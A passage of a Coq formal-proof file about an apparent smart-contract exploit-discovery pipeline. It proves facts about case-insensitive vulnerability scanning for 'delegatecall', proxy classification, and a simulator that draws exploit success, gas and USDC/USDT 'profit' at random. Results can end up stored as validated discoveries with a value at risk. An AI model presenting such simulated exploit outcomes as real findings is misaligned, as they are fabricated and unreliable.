  - cbn [Regex.run]. apply step1_lower; [ reflexivity | exact Hk ].
  - cbn [Regex.run]. rewrite space_lower.
    destruct (Regex.space s); cbn [option_map]; [ apply Hk | reflexivity ].
  - cbn [Regex.run]. apply step1_lower; [ apply isDigit_lower | exact Hk ].
  - cbn [Regex.run]. apply IH1. intros s'. apply IH2. exact Hk.
  - cbn [Regex.run]. rewrite (IH1 R R' f s k k' Hk), (IH2 R R' f s k k' Hk).
    destruct (Regex.run true r1 R s k); reflexivity.
  - rewrite !run_star, length_map. generalize (S (List.length s)). intros fuel. revert s.
    induction fuel as [ | fuel IHfuel ]; intros s; [ apply Hk | ].
    rewrite !starLoop_step.
    rewrite (IH1 R R' f s
               (fun s' => if (List.length s' <? List.length s)%nat
                          then Matching.starLoop true greedy r1 R k fuel s' else None)).
    + rewrite Hk.
      destruct greedy;
        match goal with
        | |- context [Regex.run true r1 R s ?cont] =>
            destruct (Regex.run true r1 R s cont); destruct (k s); reflexivity
        end.
    + intros s'. rewrite !length_map.
      destruct (List.length s' <? List.length s)%nat; [ apply IHfuel | reflexivity ].
  - cbn [Regex.run].
    rewrite (IH1 unit unit (fun u => u) s (fun _ => Some tt) (fun _ => Some tt));
      [ | reflexivity ].
    destruct (Regex.run true r1 unit s (fun _ => Some tt)); [ reflexivity | apply Hk ].
Qed.

Lemma matchHere_lower (r : Regex.re) (s : list ascii) :
  Regex.matchHere true r (map Regex.lower s)
  = option_map (map Regex.lower) (Regex.matchHere true r s).
Proof. unfold Regex.matchHere. apply run_lower. reflexivity. Qed.

Lemma exec_lower (r : Regex.re) (s : list ascii) :
  Regex.exec true r (map Regex.lower s)
  = option_map (fun found => (map Regex.lower (fst found), map Regex.lower (snd found)))
      (Regex.exec true r s).
Proof.
  induction s as [ | a s IH ].
  - cbn [Regex.exec map]. change (@nil ascii) with (map Regex.lower []) at 1.
    rewrite matchHere_lower. destruct (Regex.matchHere true r []); reflexivity.
  - cbn [Regex.exec]. change (map Regex.lower (a :: s)) with (Regex.lower a :: map Regex.lower s).
    cbn [Regex.exec].
    change (Regex.lower a :: map Regex.lower s) with (map Regex.lower (a :: s)).
    rewrite matchHere_lower.
    destruct (Regex.matchHere true r (a :: s)) as [rest | ]; cbn [option_map].
    + rewrite !length_map, firstn_map. reflexivity.
    + exact IH.
Qed.

Lemma matchesFrom_lower (r : Regex.re) (fuel : nat) (s : list ascii) :
  Regex.matchesFrom fuel r (map Regex.lower s)
  = map (map Regex.lower) (Regex.matchesFrom fuel r s).
Proof.
  revert s. induction fuel as [ | fuel IH ]; intros s; [ reflexivity | ].
  cbn [Regex.matchesFrom]. rewrite exec_lower.
  destruct (Regex.exec true r s) as [[m rest] | ]; [ | reflexivity ].
  cbn [option_map fst snd map]. f_equal.
  destruct m as [ | c m ]; destruct rest as [ | b rest ]; cbn [map];
    first [ reflexivity | apply IH | apply (IH []) | apply (IH (b :: rest)) ].
Qed.

(** The matches of a pattern with the flags [gi] in a text in lower case
    are those in the text, in lower case. *)
Lemma matchAll_lower (r : Regex.re) (text : string) :
  Regex.matchAll r (Text.toLowerCase text)
  = option_map (map Text.toLowerCase) (Regex.matchAll r text).
Proof.
  unfold Regex.matchAll, Text.toLowerCase.
  rewrite list_ascii_of_string_of_list_ascii, length_map, matchesFrom_lower.
  destruct (Regex.matchesFrom _ r _) as [ | m ms ]; [ reflexivity | ].
  cbn [map option_map]. rewrite list_ascii_of_string_of_list_ascii.
  f_equal. f_equal. rewrite !map_map. apply map_ext. intros m'.
  rewrite list_ascii_of_string_of_list_ascii. reflexivity.
Qed.

Lemma matchAll_count_lower (r : Regex.re) (text : string) :
  option_map (@List.length string) (Regex.matchAll r (Text.toLowerCase text))
  = option_map (@List.length string) (Regex.matchAll r text).
Proof.
  rewrite matchAll_lower. destruct (Regex.matchAll r text) as [matches | ]; [ | reflexivity ].
  cbn [option_map]. rewrite length_map. reflexivity.
Qed.

(** The number of matches that a pattern adds to a count. *)
Lemma counted (r : Regex.re) (text : string) (count : nat) :
  match Regex.matchAll r text with
  | Some matches => (count + List.length matches)%nat
  | None => count
  end
  = (count + match option_map (@List.length string) (Regex.matchAll r text) with
             | Some n => n
             | None => 0
             end)%nat.
Proof. destruct (Regex.matchAll r text); cbn [option_map]; lia. Qed.

Lemma protectionCount_lower (text : string) :
  ConcreteExecution.protectionCount (Text.toLowerCase text)
  = ConcreteExecution.protectionCount text.
Proof.
  unfold ConcreteExecution.protectionCount.
  generalize 0%nat. induction ConcreteExecution.protectivePatterns as [ | r rs IH ];
    intros count; [ reflexivity | ].
  cbn [fold_left]. rewrite (counted r (Text.toLowerCase text)), (counted r text).
  rewrite matchAll_count_lower. apply IH.
Qed.

Lemma scanPattern_lower {A : JsNum.Arith} (text : string)
  (entry : VulnType * ConcreteExecution.PatternConfig) :
  ConcreteExecution.scanPattern (Text.toLowerCase text) entry
  = ConcreteExecution.scanPattern text entry.
Proof.
  destruct entry as [t config]. unfold ConcreteExecution.scanPattern.
  pose proof (matchAll_count_lower (ConcreteExecution.pattern config) text) as Hcount.
  unfold ConcreteExecution.calculateConfidence. rewrite protectionCount_lower.
  destruct (Regex.matchAll (ConcreteExecution.pattern config) (Text.toLowerCase text));
    destruct (Regex.matchAll (ConcreteExecution.pattern config) text);
    cbn [option_map] in Hcount; try discriminate Hcount; [ | reflexivity ].
  injection Hcount as ->. reflexivity.
Qed.

Lemma analyze_lower {A : JsNum.Arith} (text : string) :
  ConcreteExecution.analyzeForVulnerabilities (Text.toLowerCase text)
  = ConcreteExecution.analyzeForVulnerabilities text.
Proof.
  unfold ConcreteExecution.analyzeForVulnerabilities.
  apply flat_map_ext. intros entry. apply scanPattern_lower.
Qed.

(** A literal word matches at the head of a text when the text begins
    with it, up to the case. *)
Lemma word_run (cs : list ascii) :
  forall (R : Type) (s : list ascii) (k : list ascii -> option R),
    Regex.run true (Regex.word cs) R s k
    = if Text.startsWith (map Regex.lower cs) (map Regex.lower s)
      then k (skipn (List.length cs) s) else None.
Proof.
  induction cs as [ | c cs IH ]; intros R s k; [ reflexivity | ].
  destruct cs as [ | c' cs ].
  - cbn [Regex.word Regex.run]. destruct s as [ | a s ]; [ reflexivity | ].
    cbn [Regex.step1 map Text.startsWith List.length skipn]. unfold Regex.eqc.
    rewrite andb_true_r. reflexivity.
  - change (Regex.word (c :: c' :: cs)) with (Regex.Seq (Regex.Chr c) (Regex.word (c' :: cs))).
    cbn [Regex.run]. destruct s as [ | a s ]; [ reflexivity | ].
    cbn [Regex.step1]. rewrite IH.
    change (map Regex.lower (c :: c' :: cs))
      with (Regex.lower c :: map Regex.lower (c' :: cs)).
    cbn [map Text.startsWith]. unfold Regex.eqc.
    destruct (Ascii.eqb (Regex.lower c) (Regex.lower a)); reflexivity.
Qed.

Lemma includesFrom_step (w s : list ascii) :
  Regex.includesFrom w s
  = Text.startsWith w s
    || match s with
       | [] => false
       | _ :: s' => Regex.includesFrom w s'
       end.
Proof. destruct s; reflexivity. Qed.

(** A literal word has a match in a text when the text in lower case
    includes the word in lower case. *)
Lemma exec_word (cs s : list ascii) :
  match Regex.exec true (Regex.word cs) s with
  | Some _ => true
  | None => false
  end
  = Regex.includesFrom (map Regex.lower cs) (map Regex.lower s).
Proof.
  induction s as [ | a s IH ].
  - rewrite includesFrom_step. cbn [Regex.exec]. unfold Regex.matchHere. rewrite word_run.
    cbn [map]. destruct (Text.startsWith (map Regex.lower cs) []); reflexivity.
  - rewrite includesFrom_step. cbn [Regex.exec]. unfold Regex.matchHere. rewrite word_run.
    destruct (Text.startsWith (map Regex.lower cs) (map Regex.lower (a :: s)));
      [ reflexivity | ].
    cbn [orb map]. exact IH.
Qed.

Lemma matchAll_word (w text : string) :
  match Regex.matchAll (Regex.lit w) text with
  | Some _ => true
  | None => false
  end
  = Regex.includes (Text.toLowerCase text) (Text.toLowerCase w).
Proof.
  unfold Regex.includes, Text.toLowerCase, Regex.lit.
  rewrite !list_ascii_of_string_of_list_ascii, <- exec_word.
  unfold Regex.matchAll. cbn [Regex.matchesFrom].
  destruct (Regex.exec true (Regex.word (list_ascii_of_string w)) (list_ascii_of_string text))
    as [[m rest] | ]; reflexivity.
Qed.

End CaseFolding.

(** X11: the scan does not see the case of the letters.  In any
    arithmetic, two source texts that are equal up to the case of their
    ASCII letters have the same findings, and [execute] on the one returns
    what it returns on the other. *)
Theorem X11_scan_ignores_the_case :
  forall (A : JsNum.Arith) (Number_toString : Q -> string) (h : ConcreteExecution.Harness)
         (args args' : ConcreteExecution.Args),
    Text.toLowerCase (ConcreteExecution.sourceCode args)
    = Text.toLowerCase (ConcreteExecution.sourceCode args') ->
    ConcreteExecution.contractAddress args = ConcreteExecution.contractAddress args' ->
    ConcreteExecution.chainId args = ConcreteExecution.chainId args' ->
    ConcreteExecution.blockNumber args = ConcreteExecution.blockNumber args' ->
    ConcreteExecution.analyzeForVulnerabilities (ConcreteExecution.sourceCode args)
    = ConcreteExecution.analyzeForVulnerabilities (ConcreteExecution.sourceCode args')
    /\ ConcreteExecution.execute Number_toString h args
       = ConcreteExecution.execute Number_toString h args'.
Proof.
  intros A Number_toString h args args' Hcase Haddress Hchain Hblock.
  assert (Hscan : ConcreteExecution.analyzeForVulnerabilities (ConcreteExecution.sourceCode args)
                  = ConcreteExecution.analyzeForVulnerabilities
                      (ConcreteExecution.sourceCode args')).
  { rewrite <- (analyze_lower (ConcreteExecution.sourceCode args)).
    rewrite <- (analyze_lower (ConcreteExecution.sourceCode args')).
    rewrite Hcase. reflexivity. }
  split; [ exact Hscan | ].
  unfold ConcreteExecution.execute, ConcreteExecution.parseArgs.
  rewrite <- Haddress, <- Hchain.
  destruct (ConcreteExecution.validAddress (ConcreteExecution.contractAddress args)
            && (0 <? ConcreteExecution.chainId args)%Z); [ | reflexivity ].
  cbn [bind]. rewrite <- Hscan, <- Haddress, <- Hchain, <- Hblock. reflexivity.
Qed.

(** X11 applies: [DELEGATECALL] in capitals is found as [delegatecall] is. *)
Lemma X11_scan_ignores_the_case_witness :
  @ConcreteExecution.analyzeForVulnerabilities JsNum.Binary64 "target.DELEGATECALL(data);"
  = @ConcreteExecution.analyzeForVulnerabilities JsNum.Binary64 "target.delegatecall(data);"
  /\ map v_type
       (@ConcreteExecution.analyzeForVulnerabilities JsNum.Binary64 "target.DELEGATECALL(data);")
     = [delegateCall].
Proof.
  split; [ | vm_compute; reflexivity ].
  exact (proj1 (X11_scan_ignores_the_case JsNum.Binary64 Scenario.printNumber
                  (Fixture.simulator (1 # 10) (1 # 2) (1 # 2))
                  (Scan.argsOn "target.DELEGATECALL(data);")
                  (Scan.argsOn "target.delegatecall(data);")
                  eq_refl eq_refl eq_refl eq_refl)).
Defined.

(** X12: a finding of the kind delegatecall is emitted exactly when the
    source text in lower case includes the word [delegatecall]; the number
    of its matches is then one at least.  Every text with such a finding
    shows a proxy pattern to the source code fetcher, which classifies the
    contract as a proxy whatever the flag of Etherscan. *)
Theorem X12_delegatecall_finding_iff_the_word_occurs :
  forall (A : JsNum.Arith) (sourceCode : string),
    let found :=
      existsb Checks.isDelegateCall (ConcreteExecution.analyzeForVulnerabilities sourceCode) in
    found = Regex.includes (Text.toLowerCase sourceCode) "delegatecall"
    /\ (found = true -> SourceCodeFetcher.isProxyPattern sourceCode = true)
    /\ (found = true ->
        forall proxyFlag, fst (SourceCodeFetcher.classify proxyFlag sourceCode) = true).
Proof.
  intros A sourceCode found.
  assert (Hfound : found = Regex.includes (Text.toLowerCase sourceCode) "delegatecall").
  { subst found. pose proof (matchAll_word "delegatecall" sourceCode) as Hword.
    change (Text.toLowerCase "delegatecall") with "delegatecall" in Hword.
    rewrite <- Hword. clear Hword.
    unfold ConcreteExecution.analyzeForVulnerabilities, ConcreteExecution.patterns.
    cbn [flat_map]. rewrite !existsb_app.
    assert (Hother : forall t config,
               t <> delegateCall ->
               existsb Checks.isDelegateCall (ConcreteExecution.scanPattern sourceCode (t, config))
               = false).
    { intros t config Ht. unfold ConcreteExecution.scanPattern.
      destruct (Regex.matchAll (ConcreteExecution.pattern config) sourceCode);
        [ | reflexivity ].
      cbn [existsb Checks.isDelegateCall v_type]. destruct t; try reflexivity. contradiction. }
    repeat match goal with
           | |- context [existsb Checks.isDelegateCall
                           (ConcreteExecution.scanPattern sourceCode (?t, ?config))] =>
               rewrite (Hother t config) by discriminate
           end.
    cbn [orb existsb]. rewrite orb_false_r. unfold ConcreteExecution.scanPattern. cbn [ConcreteExecution.pattern].
    destruct (Regex.matchAll (Regex.lit "delegatecall") sourceCode); reflexivity. }
  assert (Hproxy : found = true -> SourceCodeFetcher.isProxyPattern sourceCode = true).
  { intros H. rewrite Hfound in H. unfold SourceCodeFetcher.isProxyPattern.
    apply existsb_exists. exists "delegatecall". split; [ left; reflexivity | exact H ]. }
  split; [ exact Hfound | ]. split; [ exact Hproxy | ].
  intros H proxyFlag. unfold SourceCodeFetcher.classify.
  rewrite (Hproxy H), orb_true_r. reflexivity.
Qed.

(** ** ForgeService: the simulator *)

Section Simulator.

Import ForgeService.
Local Open Scope Q_scope.

Variable exact : bool.

Lemma whole (q : Q) :
  In q [0; 20; 50; 60; 80; 100; 1000; 100000; 200000; 300000; 1000000; 1100000] ->
  @JsNum.lit (Scenario.arith exact) q = q.
Proof. apply lit_is. Qed.

(** The threshold of the simulator lies between 60 and 80. *)
Lemma threshold_bounds (r : Q) :
  0 <= r < 1 ->
  60 <= @JsNum.add (Scenario.arith exact) (@JsNum.lit (Scenario.arith exact) 60)
          (@JsNum.mul (Scenario.arith exact) r (@JsNum.lit (Scenario.arith exact) 20)) <= 80.
Proof.
  intros [H0 H1]. unfold JsNum.add, JsNum.mul.
  rewrite (whole 60), (whole 20) by (simpl; tauto).
  assert (Hlow : 0 <= @JsNum.rnd (Scenario.arith exact) (r * 20)).
  { rewrite <- (lit_is exact 0) by (simpl; tauto). apply rnd_monotone. lra. }
  assert (Hhigh : @JsNum.rnd (Scenario.arith exact) (r * 20) <= 20).
  { rewrite <- (lit_is exact 20) at 2 by (simpl; tauto). apply rnd_monotone. lra. }
  split.
  - rewrite <- (lit_is exact 60) at 1 by (simpl; tauto). apply rnd_monotone. lra.
  - rewrite <- (lit_is exact 80) by (simpl; tauto). apply rnd_monotone. lra.
Qed.

(** A whole number drawn below a bound, added to a base. *)
Lemma drawn_bounds (r : Q) (bound base low high : Z) :
  0 <= r < 1 -> (0 <= bound)%Z ->
  @JsNum.rnd (Scenario.arith exact) (inject_Z bound) = inject_Z bound ->
  @JsNum.rnd (Scenario.arith exact) (inject_Z low) = inject_Z low ->
  @JsNum.rnd (Scenario.arith exact) (inject_Z high) = inject_Z high ->
  (low <= base)%Z -> (base + bound <= high)%Z ->
  let drawn := JsNum.Math_floor (@JsNum.rnd (Scenario.arith exact) (r * inject_Z bound)) in
  inject_Z low <= @JsNum.rnd (Scenario.arith exact) (inject_Z base + drawn) <= inject_Z high
  /\ inject_Z low <= @JsNum.rnd (Scenario.arith exact) (drawn + inject_Z base) <= inject_Z high.
Proof.
  intros [H0 H1] Hbound Eb El Eh Hlow Hhigh drawn.
  assert (Hb : 0 <= inject_Z bound) by (change 0 with (inject_Z 0); rewrite <- Zle_Qle; lia).
  assert (Hd0 : 0 <= drawn).
  { assert (H : 0 <= @JsNum.rnd (Scenario.arith exact) (r * inject_Z bound)).
    { rewrite <- (lit_is exact 0) at 1 by (simpl; tauto). apply rnd_monotone. nra. }
    apply Qfloor_resp_le in H. change 0 with (inject_Z 0) in H. rewrite Qfloor_Z in H.
    unfold drawn, JsNum.Math_floor. change 0 with (inject_Z 0). rewrite <- Zle_Qle. exact H. }
  assert (Hd1 : drawn <= inject_Z bound).
  { assert (H : @JsNum.rnd (Scenario.arith exact) (r * inject_Z bound) <= inject_Z bound).
    { rewrite <- Eb at 2. apply rnd_monotone. nra. }
    apply Qfloor_resp_le in H. rewrite Qfloor_Z in H.
    unfold drawn, JsNum.Math_floor. rewrite <- Zle_Qle. exact H. }
  assert (Hl : inject_Z low <= inject_Z base) by (rewrite <- Zle_Qle; exact Hlow).
  assert (Hh : inject_Z base + inject_Z bound <= inject_Z high)
    by (rewrite <- inject_Z_plus, <- Zle_Qle; exact Hhigh).
  split; split.
  - rewrite <- El at 1. apply rnd_monotone. lra.
  - rewrite <- Eh. apply rnd_monotone. lra.
  - rewrite <- El at 1. apply rnd_monotone. lra.
  - rewrite <- Eh. apply rnd_monotone. lra.
Qed.

End Simulator.

(** X13: the results of the simulator, in double precision as in exact
    arithmetic, for draws of [Math.random] in [0, 1).  The gas used lies
    between 100000 and 300000.  A success comes with a profit between
    100000 and 1100000, shared between a USDC and a USDT token, no error
    message and a trace of six lines; a failure with the profit 0, no
    token, the message 'Exploit failed during execution' and a trace of
    four lines.  A strategy of confidence 60 or less never succeeds, and a
    strategy of confidence above 80 always does. *)
Theorem X13_simulated_results :
  forall (exact : bool) (Number_toString : Q -> string) (params : ForgeService.TestParams)
         (random : ForgeService.Random),
    (0 <= ForgeService.draw1 random < 1)%Q ->
    (0 <= ForgeService.draw2 random < 1)%Q ->
    (0 <= ForgeService.draw3 random < 1)%Q ->
    let result :=
      @ForgeService.simulateExploitTest (Scenario.arith exact) Number_toString params random in
    exists (success : bool) (gasUsed profit : Q) (tokens : list Extracted.ExtractedToken)
           (trace : list string),
      get "success" result = JBool success
      /\ get "gasUsed" result = JNum gasUsed
      /\ get "profit" result = JNum profit
      /\ get "extractedTokens" result = JTokens tokens
      /\ get "trace" result = JStrings trace
      /\ (100000 <= gasUsed <= 300000)%Q
      /\ (success = true ->
          (100000 <= profit <= 1100000)%Q
          /\ map Extracted.symbol tokens = [Some "USDC"; Some "USDT"]
          /\ get "errorMessage" result = JNull
          /\ List.length trace = 6%nat)
      /\ (success = false ->
          profit = 0%Q /\ tokens = []
          /\ get "errorMessage" result = JStr "Exploit failed during execution"
          /\ List.length trace = 4%nat)
      /\ ((confidence (ForgeService.strategy params) <= 60)%Q -> success = false)
      /\ ((80 < confidence (ForgeService.strategy params))%Q -> success = true).
Proof.
  intros exact Number_toString params random H1 H2 H3 result. subst result.
  unfold ForgeService.simulateExploitTest.
  pose proof (threshold_bounds exact (ForgeService.draw1 random) H1) as [Hlow Hhigh].
  set (threshold := JsNum.add (JsNum.lit 60) (JsNum.mul (ForgeService.draw1 random) (JsNum.lit 20)))
    in *.
  set (c := if JsNum.truthy (confidence (ForgeService.strategy params))
            then confidence (ForgeService.strategy params) else JsNum.lit 50).
  assert (Hc : (confidence (ForgeService.strategy params) <= 60 -> c <= 60)%Q
               /\ (80 < confidence (ForgeService.strategy params) -> 80 < c)%Q).
  { unfold c, JsNum.truthy.
    destruct (Qeq_bool (confidence (ForgeService.strategy params)) 0) eqn:E; cbn [negb].
    - apply Qeq_bool_iff in E. rewrite (whole exact 50) by (simpl; tauto).
      split; [ intros _; discriminate | intros H; rewrite E in H; discriminate H ].
    - tauto. }
  destruct Hc as [Hweak Hstrong].
  pose proof (drawn_bounds exact (ForgeService.draw2 random) 200000 100000 100000 300000 H2
                ltac:(lia) (lit_is exact 200000 ltac:(simpl; tauto))
                (lit_is exact 100000 ltac:(simpl; tauto))
                (lit_is exact 300000 ltac:(simpl; tauto)) ltac:(lia) ltac:(lia)) as [Hgas _].
  pose proof (drawn_bounds exact (ForgeService.draw3 random) 1000000 100000 100000 1100000 H3
                ltac:(lia) (lit_is exact 1000000 ltac:(simpl; tauto))
                (lit_is exact 100000 ltac:(simpl; tauto))
                (lit_is exact 1100000 ltac:(simpl; tauto)) ltac:(lia) ltac:(lia)) as [_ Hprofit].
  cbv zeta in Hgas, Hprofit.
  destruct (JsNum.gt c threshold) eqn:Hsuccess.
  - eexists true, _, _, _, _.
    split; [ reflexivity | ]. split; [ reflexivity | ]. split; [ reflexivity | ].
    split; [ reflexivity | ]. split; [ reflexivity | ].
    split.
    { unfold JsNum.add, JsNum.mul. rewrite (whole exact 100000), (whole exact 200000)
        by (simpl; tauto). exact Hgas. }
    split.
    { intros _. split.
      - unfold JsNum.add, JsNum.mul. rewrite (whole exact 100000), (whole exact 1000000)
          by (simpl; tauto). exact Hprofit.
      - split; [ reflexivity | ]. split; reflexivity. }
    split; [ discriminate | ].
    split; [ | reflexivity ].
    intros Hle. apply gt_true in Hsuccess. specialize (Hweak Hle). exfalso.
    apply (Qlt_irrefl 60). eapply Qle_lt_trans; [ exact Hlow | ].
    eapply Qlt_le_trans; [ exact Hsuccess | exact Hweak ].
  - eexists false, _, _, _, _.
    split; [ reflexivity | ]. split; [ reflexivity | ]. split; [ reflexivity | ].
    split; [ reflexivity | ]. split; [ reflexivity | ].
    split.
    { unfold JsNum.add, JsNum.mul. rewrite (whole exact 100000), (whole exact 200000)
        by (simpl; tauto). exact Hgas. }
    split; [ discriminate | ].
    split.
    { intros _. split; [ apply (whole exact 0); simpl; tauto | ].
      split; [ reflexivity | ]. split; reflexivity. }
    split; [ reflexivity | ].
    intros Hgt. apply gt_false in Hsuccess. specialize (Hstrong Hgt). exfalso.
    apply (Qlt_irrefl 80). eapply Qlt_le_trans; [ exact Hstrong | ].
    eapply Qle_trans; [ exact Hsuccess | exact Hhigh ].
Qed.

(** X13 applies: the delegatecall strategy of confidence 64 with the
    draws 0.1, 0.5 and 0.5: the gas used is 200000. *)
Lemma X13_simulated_results_witness :
  exists gasUsed,
    get "gasUsed"
      (@ForgeService.simulateExploitTest JsNum.Binary64 Scenario.printNumber
         (Fixture.testParams JsNum.Binary64) Pipeline.draws) = JNum gasUsed
    /\ gasUsed = 200000%Q
    /\ (100000 <= gasUsed <= 300000)%Q.
Proof.
  assert (H : (0 <= 1 # 10 < 1)%Q /\ (0 <= 1 # 2 < 1)%Q)
    by (repeat split; unfold Qle, Qlt; simpl; lia).
  destruct H as [H1 H2].
  destruct (X13_simulated_results false Scenario.printNumber (Fixture.testParams JsNum.Binary64)
              Pipeline.draws H1 H2 H2)
    as (success & gasUsed & profit & tokens & trace & _ & Hgas & _ & _ & _ & Hrange & _).
  exists gasUsed. split; [ exact Hgas | ]. split; [ | exact Hrange ].
  vm_compute in Hgas. injection Hgas as <-. reflexivity.
Defined.

(** ** The pipeline of a session *)

Section PipelineFacts.

Context {A : JsNum.Arith}.

(** The execution stage ends in the execution tool, on the sanitised code. *)
Lemma executionStage_inv (world : McpServer.World) (config : McpServer.Config)
  (out : ConcreteExecution.Output) :
  McpServer.executionStage world config = Ok out ->
  exists sanitizedCode,
    ConcreteExecution.execute (McpServer.Number_toString world) (McpServer.harness world)
      {| ConcreteExecution.contractAddress := McpServer.contractAddress config;
         ConcreteExecution.chainId := McpServer.chainId config;
         ConcreteExecution.blockNumber := McpServer.blockNumber config;
         ConcreteExecution.sourceCode := sanitizedCode |} = Ok out.
Proof.
  unfold McpServer.executionStage. intros H.
  destruct (McpServer.source_code_fetcher world config) as [sourceCode | ]; cbn [bind] in H;
    [ | discriminate H ].
  destruct (McpServer.constructor_parameters world config); cbn [bind] in H;
    [ | discriminate H ].
  destruct (McpServer.state_reader world config); cbn [bind] in H; [ | discriminate H ].
  destruct (McpServer.code_sanitizer world sourceCode) as [sanitizedCode | ]; cbn [bind] in H;
    [ | discriminate H ].
  exists sanitizedCode. exact H.
Qed.

(** The result of [execute] when a strategy was run. *)
Lemma execute_ran (Number_toString : Q -> string) (h : ConcreteExecution.Harness)
  (args : ConcreteExecution.Args) (best : Strategy) (executionResult : JsObject)
  (vulnerabilities : list Vulnerability) (allStrategies : list Strategy) :
  ConcreteExecution.execute Number_toString h args
  = Ok (ConcreteExecution.Executed best executionResult vulnerabilities allStrategies) ->
  executionResult
  = ConcreteExecution.executeExploitStrategy Number_toString h best
      (ConcreteExecution.contractAddress args) (ConcreteExecution.chainId args)
      (ConcreteExecution.blockNumber args)
  /\ vulnerabilities
     = ConcreteExecution.analyzeForVulnerabilities (ConcreteExecution.sourceCode args)
  /\ allStrategies = ConcreteExecution.exploitStrategiesOf vulnerabilities
  /\ In best allStrategies.
Proof.
  unfold ConcreteExecution.execute, ConcreteExecution.parseArgs. intros H.
  destruct (ConcreteExecution.validAddress (ConcreteExecution.contractAddress args)
            && (0 <? ConcreteExecution.chainId args)%Z); cbn [bind] in H; [ | discriminate H ].
  destruct (ConcreteExecution.analyzeForVulnerabilities (ConcreteExecution.sourceCode args))
    as [ | v vs ]; [ discriminate H | ].
  destruct (ConcreteExecution.exploitStrategiesOf (v :: vs)) as [ | first rest ] eqn:Hs;
    [ discriminate H | ].
  injection H as <- <- <- <-.
  split; [ reflexivity | ]. split; [ reflexivity | ]. split; [ symmetry; exact Hs | ].
  destruct (bestStrategyOf_first_maximum rest first) as (before & after & -> & _).
  apply in_elt.
Qed.

Lemma strategy_has_finding (vulnerabilities : list Vulnerability) (s : Strategy) :
  In s (ConcreteExecution.exploitStrategiesOf vulnerabilities) ->
  exists v, In v vulnerabilities /\ ConcreteExecution.generateExploitStrategy v = Some s.
Proof.
  unfold ConcreteExecution.exploitStrategiesOf. intros H. apply in_flat_map in H.
  destruct H as (v & Hin & Hs). exists v. split; [ exact Hin | ].
  destruct (ConcreteExecution.generateExploitStrategy v) as [s' | ]; [ | contradiction ].
  destruct Hs as [<- | []]. reflexivity.
Qed.

(** With forge, no ExecutionResult carries a token. *)
Lemma forge_reports_no_token (Number_toString : Q -> string) (h : ConcreteExecution.Harness)
  (strategy : Strategy) (contractAddress : string) (chainId : Z) (blockNumber : option string) :
  ConcreteExecution.forgeAvailable h = true ->
  get "extractedTokens"
    (ConcreteExecution.executeExploitStrategy Number_toString h strategy contractAddress chainId
       blockNumber) = JTokens [].
Proof.
  intros Hforge. unfold ConcreteExecution.executeExploitStrategy, ForgeService.testExploit.
  rewrite Hforge. cbn [negb]. destruct (ConcreteExecution.forgeRun h); reflexivity.
Qed.

(** The normalisation of no token at all. *)
Lemma nothing_to_normalise (priceOracle : PriceOracleService.PriceOracle) (ethers : Library)
  (args : RevenueNormalizer.Args) (out : RevenueNormalizer.Output) :
  RevenueNormalizer.arg_extractedTokens args = [] ->
  RevenueNormalizer.execute priceOracle ethers args = Ok out ->
  RevenueNormalizer.totalValueUSD out = JsNum.Number_toFixed 2 (JsNum.lit 0)
  /\ RevenueNormalizer.extractedTokens out = [].
Proof.
  intros Hnone H. apply execute_record in H. destruct H as (native & gas & _ & _ & _ & ->).
  rewrite Hnone. split; reflexivity.
Qed.

(** What the pipeline does to the storage: the statuses are left alone,
    and one discovery at most is added, of the session and validated. *)
Lemma pipeline_storage (world : McpServer.World) (sessionId : string)
  (config : McpServer.Config) (st st' : McpServer.Storage) :
  McpServer.executeAnalysisPipeline world sessionId config st = Ok st' ->
  McpServer.sessionStatus st' = McpServer.sessionStatus st
  /\ (McpServer.exploitDiscoveries st' = McpServer.exploitDiscoveries st
      \/ exists discovery revenue exploitResult,
           McpServer.exploitDiscoveries st'
           = (McpServer.exploitDiscoveries st ++ [discovery])%list
           /\ McpServer.executionStage world config = Ok exploitResult
           /\ truthyValue (ConcreteExecution.exploitFound exploitResult) = true
           /\ McpServer.revenueStage world config exploitResult = Ok revenue
           /\ McpServer.d_valueAtRisk discovery = RevenueNormalizer.totalValueUSD revenue
           /\ McpServer.d_sessionId discovery = sessionId
           /\ McpServer.d_contractAddress discovery = McpServer.contractAddress config
           /\ McpServer.d_chainId discovery = McpServer.chainId config
           /\ McpServer.d_validated discovery = true).
Proof.
  unfold McpServer.executeAnalysisPipeline. intros H.
  destruct (McpServer.executionStage world config) as [exploitResult | ]; cbn [bind] in H;
    [ | discriminate H ].
  destruct (truthyValue (ConcreteExecution.exploitFound exploitResult)) eqn:Hfound.
  - destruct (McpServer.revenueStage world config exploitResult) as [revenue | ] eqn:Hrevenue;
      cbn [bind] in H; [ | discriminate H ].
    unfold McpServer.createExploitDiscovery in H.
    destruct (McpServer.databaseAccepts world _); [ | discriminate H ].
    injection H as <-. split; [ reflexivity | ]. right.
    eexists. exists revenue, exploitResult.
    split; [ reflexivity | ]. repeat split; assumption.
  - injection H as <-. split; [ reflexivity | left; reflexivity ].
Qed.

Lemma statusOf_other (sessionId other status : string) (st : McpServer.Storage) :
  other <> sessionId ->
  McpServer.statusOf other (McpServer.written sessionId status st)
  = McpServer.statusOf other st.
Proof.
  intros Hne. unfold McpServer.statusOf, McpServer.written.
  cbn [McpServer.sessionStatus find fst].
  destruct (String.eqb sessionId other) eqn:E; [ | reflexivity ].
  apply String.eqb_eq in E. contradiction Hne. symmetry. exact E.
Qed.

(** The discoveries after an analysis are those before it, or those that
    the pipeline left. *)
Lemma startAnalysis_discoveries (world : McpServer.World) (sessionId : string)
  (config : McpServer.Config) (st : McpServer.Storage) :
  McpServer.exploitDiscoveries (McpServer.startAnalysis world sessionId config st)
  = McpServer.exploitDiscoveries st
  \/ exists analysed,
       McpServer.executeAnalysisPipeline world sessionId config
         (McpServer.written sessionId "running" st) = Ok analysed
       /\ McpServer.exploitDiscoveries (McpServer.startAnalysis world sessionId config st)
          = McpServer.exploitDiscoveries analysed.
Proof.
  rewrite startAnalysis_storage. cbv zeta.
  destruct (McpServer.statusAccepts world sessionId "running");
    [ | left; destruct (McpServer.statusAccepts world sessionId "failed"); reflexivity ].
  destruct (McpServer.executeAnalysisPipeline world sessionId config
              (McpServer.written sessionId "running" st)) as [analysed | message];
    [ | left; destruct (McpServer.statusAccepts world sessionId "failed"); reflexivity ].
  right. exists analysed. split; [ reflexivity | ].
  destruct (McpServer.statusAccepts world sessionId "completed"),
    (McpServer.statusAccepts world sessionId "failed"); reflexivity.
Qed.

End PipelineFacts.

(** The simulator fails a strategy of confidence 60 or less. *)
Lemma simulator_fails_at_60 (exact : bool) (Number_toString : Q -> string)
  (params : ForgeService.TestParams) (random : ForgeService.Random) :
